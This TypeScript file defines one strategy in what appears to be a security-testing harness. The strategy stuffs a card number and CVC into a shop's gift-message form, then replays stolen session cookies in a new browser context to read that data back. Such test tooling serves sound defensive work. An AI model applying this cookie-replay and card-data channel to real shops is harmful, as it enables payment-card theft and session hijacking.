import type { Strategy } from '#scripts/attack/strategy';

/** Read in a browser context of its own that was given the stolen cookies. */
export const giftMessage: Strategy = {
  name: 'gift message',
  channel: 'another browser context',
  shops: ['mirror'],
  async run({ page, code, shop }) {
    await page("return said(await post('/gift-message', form({ card_number: number, card_cvc: code })))");
    await code(
      `const cookies = await page.context().cookies();
       const answer = await page.context().browser().newContext().then(async (context) => {
         await context.addCookies(cookies);
         const other = await context.newPage();
         await other.goto('${shop}/gift-message');
         const text = await other.content();
         await context.close();
         return text;
       });
       return answer;`,
      'another browser context',
    );
  },
};
